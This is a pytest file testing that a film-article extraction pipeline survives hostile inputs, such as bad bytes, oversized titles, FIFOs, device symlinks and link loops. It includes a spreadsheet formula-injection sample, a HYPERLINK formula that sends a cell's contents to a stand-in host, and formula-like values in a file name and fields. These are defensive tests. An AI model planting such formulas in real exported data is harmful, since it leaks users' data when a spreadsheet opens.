"""Hostile input: nothing a file contains or is named loses the batch, hangs it, or fills the disk."""

from __future__ import annotations

import multiprocessing
import os
import re
import signal
import subprocess
import sys
import time
import unicodedata
from pathlib import Path

import pytest

import pipeline.engines.local
import pipeline.engines.worker
from pipeline.extract.records import Title
from pipeline.ids import MAX_ID_CHARS

from .cases import ARTICLE, REPO, cli, doc_rows, extract, problem_rows, read_tables, write

CREDITS = "".join(f"- Musique : Jean Dupont{i}\n" for i in range(300))
# `- Titre : AAA...` then many credit lines: a small file whose title, slugged, used to be every row's film_id.
HUGE_TITLE = "- Titre : " + "A" * 20_000 + "\n" + CREDITS


def test_a_file_name_that_is_not_utf8_costs_nothing(folder: Path, tmp_path: Path, article_alone) -> None:
    bad = os.fsdecode(b"caf\xe9.txt")
    write(folder, bad, ARTICLE)
    summary = extract([folder], tmp_path / "out")
    tables = read_tables(tmp_path / "out")
    assert doc_rows(tables, "article") == article_alone
    assert problem_rows(tmp_path / "out") == [
        ("caf\\xe9", "warning", "read", "file name is not UTF-8: doc_id written as 'caf\\xe9'", "", "")]
    assert [r["doc_id"] for r in tables["films"]] == ["article", "caf\\xe9"]
    assert summary.failed == 0


def test_a_row_that_cannot_be_written_costs_its_document_only(folder: Path, tmp_path: Path, monkeypatch, article_alone) -> None:
    """Turning rows into CSV is a per-document step: a value UTF-8 cannot hold fails that document, not the run."""
    write(folder, "zz.txt", ARTICLE)
    extract_document = pipeline.engines.worker.extract_document

    def poisoned(doc, tagger):
        result = extract_document(doc, tagger)
        if doc.doc_id == "zz":
            result.films[0].titles.append(Title("\udce9", "", 0, 1))
        return result

    monkeypatch.setattr(pipeline.engines.worker, "extract_document", poisoned)
    summary = extract([folder], tmp_path / "out")
    assert doc_rows(read_tables(tmp_path / "out"), "article") == article_alone
    [row] = problem_rows(tmp_path / "out")
    assert row[:3] == ("zz", "error", "write") and "UnicodeEncodeError" in row[3]
    assert not doc_rows(read_tables(tmp_path / "out"), "zz")["films"]
    assert summary.failed == 1


def _busy(seconds: float, started: str) -> None:
    mark = Path(f"{started}.part")
    mark.write_text(str(os.getpid()), encoding="utf-8")
    mark.rename(started)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        pass


def test_stopping_the_pool_ends_busy_workers(tmp_path: Path) -> None:
    pool = pipeline.engines.local._pool(2)
    marks = [tmp_path / f"started-{n}" for n in range(2)]
    futures = [pool.submit(_busy, 60, str(mark)) for mark in marks]
    deadline = time.monotonic() + 60
    while not all(mark.exists() for mark in marks) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert all(f.running() for f in futures), "the workers never started their tasks"
    workers = multiprocessing.active_children()
    assert sorted(w.pid for w in workers) == sorted(int(m.read_text(encoding="utf-8")) for m in marks)
    pipeline.engines.local._stop(pool)
    # Asked again until the deadline: the pool's own thread may be reaping a worker at the moment
    # is_alive() asks, and a worker it reaped first reads as alive once.
    deadline = time.monotonic() + 15
    while (alive := [w.pid for w in workers if w.is_alive()]) and time.monotonic() < deadline:
        time.sleep(0.05)
    for worker in workers:
        if worker.is_alive():
            worker.kill()
    assert alive == []


def test_a_huge_title_gives_a_capped_id_and_a_warning(folder: Path, tmp_path: Path, article_alone) -> None:
    write(folder, "huge.txt", HUGE_TITLE)
    extract([folder], tmp_path / "out")
    tables = read_tables(tmp_path / "out")
    [film] = [r for r in tables["films"] if r["doc_id"] == "huge"]
    assert film["film_id"] == "a" * MAX_ID_CHARS
    assert ("huge", "warning", "tables", f"id cut to {MAX_ID_CHARS} characters: '{'a' * MAX_ID_CHARS}'", "", "") in problem_rows(tmp_path / "out")
    written = sum(p.stat().st_size for p in (tmp_path / "out").glob("*.csv"))
    assert written < 5 * len(HUGE_TITLE) + len(ARTICLE) * 10
    assert doc_rows(tables, "article") == article_alone


@pytest.mark.parametrize(("content", "limit", "message"), [
    (CREDITS, {"max_rows_per_kb": 30}, r"output capped: 3\d\d rows, more than the 240 allowed for a document of 8 kB"),
    (HUGE_TITLE, {"max_output_ratio": 3}, r"output capped: more than 84,003 bytes of tables for a document of 29 kB"),
], ids=["rows", "bytes"])
def test_a_document_over_its_output_cap_is_an_error_row(content: str, limit: dict, message: str, folder: Path, tmp_path: Path,
                                                        article_alone) -> None:
    """The article beside it, well under both caps, is whole."""
    write(folder, "huge.txt", content)
    summary = extract([folder], tmp_path / "out", **limit)
    [row] = problem_rows(tmp_path / "out")
    assert row[:3] == ("huge", "error", "output") and row[4:] == ("", "")
    assert re.fullmatch(f"{message}; document skipped", row[3])
    assert not doc_rows(read_tables(tmp_path / "out"), "huge")["films"]
    assert doc_rows(read_tables(tmp_path / "out"), "article") == article_alone
    assert summary.failed == 1


def test_a_budget_too_large_for_any_integer_column_is_a_warning_not_a_lost_document(tmp_path: Path, article_alone) -> None:
    line = "- Budget : 1" + "0" * 400 + " €\n"
    text = ARTICLE.replace("- Durée :", line + "- Durée :")
    write(tmp_path / "in", "article.txt", text)
    extract([tmp_path / "in"], tmp_path / "out")
    start = text.index("1" + "0" * 400)
    assert problem_rows(tmp_path / "out") == [
        ("article", "warning", "fiche", f"'Budget': value '1{'0' * 59}…' not understood", str(start), str(start + 403))]
    [film] = read_tables(tmp_path / "out")["films"]
    assert film == {**article_alone["films"][0], "budget_low": "", "budget_high": "", "budget_currency": ""}


MORE = ARTICLE + "Liens externes\nSite officiel du film, consulté en 2010"
SYNOPSIS_SPACE = ARTICLE.index(" Bamako")


@pytest.mark.parametrize(("before", "bad", "after", "replaced"), [
    (ARTICLE[:SYNOPSIS_SPACE], b"\xff", ARTICLE[SYNOPSIS_SPACE + 1:], "1 byte"),
    (MORE, "é".encode()[:1], "", "1 byte"),
    (MORE, "€".encode()[:2], "", "2 bytes"),
], ids=["stray byte", "cut after one byte", "cut after two bytes"])
def test_a_good_article_with_a_few_bad_bytes_is_read_with_them_replaced(before: str, bad: bytes, after: str, replaced: str,
                                                                         tmp_path: Path) -> None:
    """The rows are those of the same article with U+FFFD written in place of each bad byte, and texts/ holds that text."""
    text = before + "\ufffd" * len(bad) + after
    write(tmp_path / "good", "article.txt", text)
    write(tmp_path / "bad", "article.txt", before.encode() + bad + after.encode())
    extract([tmp_path / "good"], tmp_path / "good-out")
    summary = extract([tmp_path / "bad"], tmp_path / "bad-out")
    assert problem_rows(tmp_path / "bad-out") == [
        *problem_rows(tmp_path / "good-out"),
        ("article", "warning", "read", f"{replaced} that did not fit utf-8 replaced with U+FFFD", "", "")]
    assert read_tables(tmp_path / "bad-out") | {"problems": []} == read_tables(tmp_path / "good-out") | {"problems": []}
    assert (tmp_path / "bad-out" / "texts" / "article.txt").read_text(encoding="utf-8") == text
    assert summary.failed == 0


SPECIAL = "special file ({}), not a regular file"


@pytest.mark.skipif(not hasattr(os, "mkfifo") or not Path("/dev/zero").exists(), reason="POSIX special files")
def test_special_files_in_a_folder_are_error_rows(folder: Path, tmp_path: Path, article_alone) -> None:
    """A link to /dev/zero (size 0 by stat, endless when read), a FIFO and a link to a FIFO: refused, not read or skipped."""
    (folder / "zero.txt").symlink_to("/dev/zero")
    os.mkfifo(tmp_path / "fifo")
    os.mkfifo(folder / "pipe.txt")
    (folder / "to-fifo.txt").symlink_to(tmp_path / "fifo")
    summary = extract([folder], tmp_path / "out")
    assert problem_rows(tmp_path / "out") == [
        ("pipe", "error", "read", SPECIAL.format("FIFO"), "", ""),
        ("to-fifo", "error", "read", SPECIAL.format("FIFO"), "", ""),
        ("zero", "error", "read", SPECIAL.format("character device"), "", ""),
    ]
    assert doc_rows(read_tables(tmp_path / "out"), "article") == article_alone
    assert summary.failed == 3


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="POSIX FIFOs")
def test_a_fifo_named_on_the_command_line_is_an_error_row_and_exit_1(folder: Path, tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe.txt")
    done = cli(str(folder / "article.txt"), str(tmp_path / "pipe.txt"), "--out", str(tmp_path / "out"), "--no-ner", "--jobs", "1")
    assert done.returncode == 1
    assert problem_rows(tmp_path / "out") == [("pipe", "error", "read", SPECIAL.format("FIFO"), "", "")]


@pytest.mark.skipif(not Path("/proc/self/maps").is_file(), reason="a file whose stat size is 0 but holds bytes")
def test_the_size_limit_holds_on_what_is_read_not_on_what_stat_says(folder: Path, tmp_path: Path, article_alone) -> None:
    (folder / "maps.txt").symlink_to("/proc/self/maps")
    extract([folder], tmp_path / "out", max_bytes=len(ARTICLE.encode()) + 1)
    [row] = problem_rows(tmp_path / "out")
    assert row[:3] == ("maps", "error", "read") and row[3].startswith("document too large: more than ")
    assert doc_rows(read_tables(tmp_path / "out"), "article") == article_alone


FORMULA = '=HYPERLINK("http://exemple.org/?d="&A1;"Voir")'


@pytest.mark.parametrize("safe", [False, True], ids=["exact by default", "--formula-safe"])
def test_cells_a_spreadsheet_would_run_are_quoted_only_when_asked(safe: bool, tmp_path: Path) -> None:
    text = ARTICLE.replace("- Montage : Claire Dubois", f"- Montage : {FORMULA}\n- Décors : @SOMME(1+1)")
    write(tmp_path / "in", "=cmd.txt", text)
    extract([tmp_path / "in"], tmp_path / "out", formula_safe=safe)
    tables = read_tables(tmp_path / "out")
    quote = "'" if safe else ""
    values = {r["label"]: r["value"] for r in tables["fiche"]}
    assert (values["Montage"], values["Décors"]) == (quote + FORMULA, quote + "@SOMME(1+1)")
    assert {r["doc_id"] for name in ("films", "sections") for r in tables[name]} == {quote + "=cmd"}
    assert all(not v.startswith(("=", "+", "-", "@")) for rows in tables.values() for r in rows for v in r.values()) == safe
    row = next(r for r in tables["fiche"] if r["label"] == "Montage")
    assert (text[int(row["start"]):int(row["end"])] == row["value"]) != safe


def test_a_double_star_glob_through_looping_links_ends_with_short_doc_ids(tmp_path: Path) -> None:
    """`**` does not descend into linked folders: two loops made glob.glob run for ever (and one gave 400-character doc_ids)."""
    write(tmp_path / "a", "article.txt", ARTICLE)
    write(tmp_path / "a" / "sub", "b.txt", ARTICLE)
    (tmp_path / "a" / "loop").symlink_to("..")
    (tmp_path / "a" / "sub" / "up").symlink_to("..")
    done = subprocess.run([sys.executable, "-m", "pipeline", "extract", str(tmp_path / "a" / "**" / "*.txt"), "--out",
                           str(tmp_path / "out"), "--no-ner", "--jobs", "1"], cwd=REPO, capture_output=True, text=True,
                          env={**os.environ, "PYTHONPATH": str(REPO)}, timeout=60)
    assert done.returncode == 0, done.stderr
    assert [r["doc_id"] for r in read_tables(tmp_path / "out")["sections"]] == ["article", "sub/b"]


def test_a_file_reached_through_a_linked_folder_keeps_its_own_name(tmp_path: Path) -> None:
    write(tmp_path / "in" / "z", "article.txt", ARTICLE)
    (tmp_path / "in" / "a").symlink_to("z")
    extract([tmp_path / "in" / "a" / "article.txt", tmp_path / "in" / "*" / "article.txt"], tmp_path / "out")
    assert [r["doc_id"] for r in read_tables(tmp_path / "out")["sections"]] == ["z/article"]


@pytest.mark.parametrize(("variant", "messages"), [
    ("NFD", [f"text normalised to NFC ({len(unicodedata.normalize('NFD', ARTICLE)) - len(ARTICLE)} characters fewer); "
             "offsets index the text in texts/"]),
    ("NEL", [f"{ARTICLE.count(chr(10))} Unicode line breaks (U+0085, U+2028, U+2029) read as \\n"]),
    ("LS", [f"{ARTICLE.count(chr(10))} Unicode line breaks (U+0085, U+2028, U+2029) read as \\n"]),
], ids=["decomposed accents", "U+0085 line breaks", "U+2028 line breaks"])
def test_decomposed_accents_and_unicode_line_breaks_read_like_the_article(variant: str, messages: list[str], tmp_path: Path,
                                                                          article_alone) -> None:
    """The extractors read the NFC text with `\\n` line ends, so the rows are the article's; that text is in texts/."""
    text = {"NFD": unicodedata.normalize("NFD", ARTICLE), "NEL": ARTICLE.replace("\n", "\x85"),
            "LS": ARTICLE.replace("\n", "\u2028")}[variant]
    write(tmp_path / "in", "article.txt", text)
    extract([tmp_path / "in"], tmp_path / "out")
    assert problem_rows(tmp_path / "out") == [("article", "warning", "read", m, "", "") for m in messages]
    assert doc_rows(read_tables(tmp_path / "out"), "article") == article_alone
    assert (tmp_path / "out" / "texts" / "article.txt").read_text(encoding="utf-8") == ARTICLE


class _SignalsWhileCollected:
    """An object whose finalizer is where SIGTERM lands, as when it reached the regex compiler's `__del__`."""

    def __del__(self) -> None:
        os.kill(os.getpid(), signal.SIGTERM)
        for _ in range(1000):  # the handler runs between bytecodes, inside this finalizer
            pass


def test_an_interrupt_that_lands_in_a_finalizer_still_stops_the_run(capsys) -> None:
    """Python only prints an exception raised in `__del__`: the run raises it again between documents."""
    with pytest.raises(pipeline.run.Interrupted) as stopped:
        with pipeline.run._interruptible() as interrupt:
            _SignalsWhileCollected()  # collected at once: SIGTERM is handled inside __del__
            interrupt.check()
    assert stopped.value.signum == signal.SIGTERM
    assert "Traceback" not in capsys.readouterr().err
